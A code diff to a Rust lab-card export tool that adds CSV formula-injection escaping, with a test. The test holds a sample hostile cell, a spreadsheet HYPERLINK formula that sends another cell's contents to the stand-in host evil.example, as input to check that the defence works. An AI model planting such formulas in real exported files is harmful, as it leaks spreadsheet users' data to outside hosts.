@@ -4,6 +4,8 @@ use std::collections::BTreeMap;
 
 use serde::Serialize;
 
+use crate::values::to_cell;
+
 /// The `schema` of every line of the JSON form.
 const SCHEMA: &str = "azlab.card/v1";
 
@@ -63,7 +65,8 @@ pub(crate) fn json_lines(cards: &[Card]) -> Result<String, serde_json::Error> {
     Ok(text)
 }
 
-/// Cards as a table for a mail merge: a line each, the roster's other columns at the end under their own names.
+/// Cards as a table for a mail merge: a line each, the roster's other columns at the end under their own names. No cell is a
+/// formula to a spreadsheet ([`to_cell`]).
 ///
 /// # Errors
 /// None that a text in memory has.
@@ -88,16 +91,16 @@ pub(crate) fn csv(cards: &[Card]) -> Result<String, csv::Error> {
     others.sort_unstable();
     others.dedup();
     let mut writer = csv::Writer::from_writer(Vec::new());
-    writer.write_record(HEAD.iter().copied().chain(others.iter().copied()))?;
+    let mut write = |cells: &[&str]| writer.write_record(cells.iter().map(|cell| to_cell(cell).into_owned()));
+    write(&[&HEAD[..], &others].concat())?;
     for card in cards {
-        let some = |value: &Option<String>| value.clone().unwrap_or_default();
         let own = [
-            card.lab.clone(),
+            card.lab.as_str(),
             some(&card.name),
             some(&card.sign_in),
-            card.resource_group.clone(),
+            &card.resource_group,
             some(&card.location),
-            card.subscription.clone(),
+            &card.subscription,
             some(&card.tenant),
             some(&card.cluster),
             some(&card.account),
@@ -105,13 +108,17 @@ pub(crate) fn csv(cards: &[Card]) -> Result<String, csv::Error> {
             some(&card.deployment),
             some(&card.expires_at),
             some(&card.ends),
-            card.portal.get(GROUP_PAGE).cloned().unwrap_or_default(),
+            card.portal.get(GROUP_PAGE).map_or("", String::as_str),
         ];
-        let more = others.iter().map(|column| card.more.get(*column).cloned().unwrap_or_default());
-        writer.write_record(own.into_iter().chain(more))?;
+        let more = others.iter().map(|column| card.more.get(*column).map_or("", String::as_str));
+        write(&own.into_iter().chain(more).collect::<Vec<_>>())?;
     }
     let bytes = writer.into_inner().map_err(|error| csv::Error::from(error.into_error()))?;
     Ok(String::from_utf8_lossy(&bytes).into_owned())
+}
+
+fn some(value: &Option<String>) -> &str {
+    value.as_deref().unwrap_or_default()
 }
 
 /// The portal's page of the resource group, in [`Card::portal`].
@@ -120,6 +127,7 @@ pub(crate) const GROUP_PAGE: &str = "resource group";
 #[cfg(test)]
 mod tests {
     use super::*;
+    use crate::values::from_cell;
 
     fn card(lab: &str) -> Card {
         Card {
@@ -147,6 +155,21 @@ mod tests {
             (ada.name.unwrap(), "4;5".to_owned(), String::new())
         );
         assert_eq!(of(1, "diet"), "végan");
+    }
+
+    #[test]
+    fn no_cell_of_a_table_is_a_formula_and_each_comes_back() {
+        let mut eve = card("eve");
+        eve.name = Some("=HYPERLINK(\"https://evil.example/\"&A1,\"Eve\")".to_owned());
+        eve.more.insert("+more".to_owned(), "@eve".to_owned());
+        let text = csv(&[eve.clone()]).unwrap();
+        let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(text.as_bytes());
+        let cells: Vec<String> =
+            reader.records().flat_map(|row| row.unwrap().iter().map(str::to_owned).collect::<Vec<_>>()).collect();
+        assert!(cells.iter().all(|cell| !cell.starts_with(['=', '+', '-', '@'])), "{text}");
+        for text in [eve.name.as_deref().unwrap(), "+more", "@eve"] {
+            assert!(cells.iter().any(|cell| cell.starts_with('\'') && from_cell(cell) == text), "{text}: {cells:?}");
+        }
     }
 
     #[test]
